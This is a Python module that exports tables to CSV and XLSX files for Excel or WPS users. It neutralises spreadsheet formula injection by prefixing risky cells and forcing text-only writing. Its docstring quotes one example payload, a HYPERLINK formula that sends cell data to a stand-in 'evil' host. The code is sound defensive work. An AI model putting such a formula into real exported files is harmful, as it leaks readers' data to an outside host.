"""Tables leaving the app as files a clerk opens in Excel or WPS.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read there as a
formula: text a user typed (`=HYPERLINK("http://evil/?"&A1,"点此")`) would run on the
reader's PC. Such cells get a leading apostrophe, which the spreadsheet shows as text
(OWASP's advice on CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import BinaryIO

import pandas as pd
import xlsxwriter

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(value):
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def to_csv(frame: pd.DataFrame) -> bytes:
    """UTF-8 with a byte-order mark, so Excel on a Chinese Windows opens it correctly. Lines
    end in CRLF, as Excel writes them; it also makes the writer quote a cell holding a lone
    CR, which would otherwise split the row."""
    buf = io.StringIO()
    frame.map(neutral).to_csv(buf, index=False, lineterminator="\r\n")
    return buf.getvalue().encode("utf-8-sig")


CSV_BOM = "\ufeff".encode()


def csv_lines(rows: Iterable[Iterable]) -> bytes:
    """Rows as UTF-8 CSV with the same conventions as to_csv (neutralised cells, CRLF;
    times and days as csv_text writes them), to stream a file piece by piece: CSV_BOM
    first, then the header and batches of rows."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerows([neutral(csv_text(cell)) for cell in row] for row in rows)
    return buf.getvalue().encode("utf-8")


def csv_text(value: object) -> object:
    """A cell as a CSV holds it: times to the minute and days as the lists show them."""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return "" if value is None else value


# Text stays text: a typed `=...`, a URL or a number-like string is never converted.
TEXT_ONLY = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


class StreamedBook:
    """An XLSX workbook written row by row: xlsxwriter's constant_memory mode flushes each
    row to a temporary file as it is written, so memory stays at one row. Rows must come
    in order, each one's height (set_row) before its cells. Cells are written by type:
    numbers as numbers, times and days with their formats, None blank, anything else as
    a string (never a formula)."""

    def __init__(self, out: BinaryIO | str) -> None:
        self.book = xlsxwriter.Workbook(out, {"constant_memory": True, **TEXT_ONLY})
        self.bold = self.book.add_format({"bold": True})
        self.moment = self.book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
        self.day = self.book.add_format({"num_format": "yyyy-mm-dd"})

    def sheet(self, headers: Sequence[str], widths: Sequence[float]):
        """A new sheet with its header row in bold, frozen above the rows."""
        sheet = self.book.add_worksheet()
        for col, width in enumerate(widths):
            sheet.set_column(col, col, width)
        for col, text in enumerate(headers):
            sheet.write_string(0, col, text, self.bold)
        sheet.freeze_panes(1, 0)
        return sheet

    def write_row(self, sheet, line: int, values: Iterable[object]) -> None:
        for col, value in enumerate(values):
            if value is None:
                sheet.write_blank(line, col, None)
            elif isinstance(value, int | float) and not isinstance(value, bool):
                sheet.write_number(line, col, value)
            elif isinstance(value, datetime):
                sheet.write_datetime(line, col, value, self.moment)
            elif isinstance(value, date):
                sheet.write_datetime(line, col, value, self.day)
            else:
                sheet.write_string(line, col, str(value))

    def close(self) -> None:
        self.book.close()


def to_xlsx(frame: pd.DataFrame, *, sheet: str = "Sheet1") -> bytes:
    """A small table (a list of what is due) as an XLSX workbook: a header row in bold,
    text written as text, so a typed `=...` never becomes a formula."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, **TEXT_ONLY})
    bold = book.add_format({"bold": True})
    ws = book.add_worksheet(sheet)
    for col, name in enumerate(frame.columns):
        ws.write_string(0, col, str(name), bold)
        # Wide enough for the longest cell (a Chinese character takes two widths).
        longest = max([len(str(name)), *(len(str(v)) for v in frame.iloc[:, col])])
        ws.set_column(col, col, max(10, min(60, 2 * longest + 2)))
    for line, row in enumerate(frame.itertuples(index=False), start=1):
        for col, value in enumerate(row):
            if isinstance(value, int | float) and not isinstance(value, bool):
                ws.write_number(line, col, value)
            else:
                ws.write_string(line, col, "" if value is None else str(value))
    ws.freeze_panes(1, 0)
    ws.autofilter(0, 0, len(frame), max(len(frame.columns) - 1, 0))
    book.close()
    return out.getvalue()
